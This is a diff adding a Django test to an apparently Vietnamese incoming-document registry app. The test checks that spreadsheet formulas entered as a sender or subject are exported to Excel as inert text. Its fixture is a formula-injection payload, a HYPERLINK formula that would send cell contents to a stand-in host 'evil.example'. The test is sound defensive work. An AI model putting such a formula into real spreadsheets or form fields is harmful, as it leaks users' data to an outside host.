@@ -178,3 +178,19 @@ def test_the_clerk_sees_secret_documents_refused_on_arrival(client, office, pers
     notice = page.split('id="refused-secret"')[1].split("</section>")[0]
     assert "000.00.03.H99, số 7/KH-SKHCN (Mật, trang 1 của tệp PDF)" in notice and "bản giấy" in notice
     assert 'id="refused-secret"' not in login(client, "tuan").get(reverse("web:incoming_list")).content.decode()
+
+
+def test_a_sender_or_subject_starting_with_an_equals_sign_is_text_in_the_excel_export(client, office, sample_pdf):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
+    login(client, "lan")
+    upload = io.BytesIO(sample_pdf)
+    upload.name = "ban-quet.pdf"
+    form = {"sender_name": formula, "code_number": "7", "code_notation": "X", "issued_on": "20/11/2026"}
+    client.post(reverse("web:incoming_paper"), {**form, "subject": "=1+1", "file": upload}, follow=True)
+    doc = IncomingDocument.objects.get()
+    client.post(reverse("web:incoming_action", args=[doc.pk, "vao-so"]))
+    response = client.get(reverse("web:incoming_register"), {"xuat": "xlsx"})
+    ws = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    sender, subject = ws.cell(row=3, column=3), ws.cell(row=3, column=6)
+    assert (sender.data_type, sender.value) == ("s", formula)  # a string cell: shown, never evaluated
+    assert subject.data_type == "s" and subject.value.endswith("=1+1")
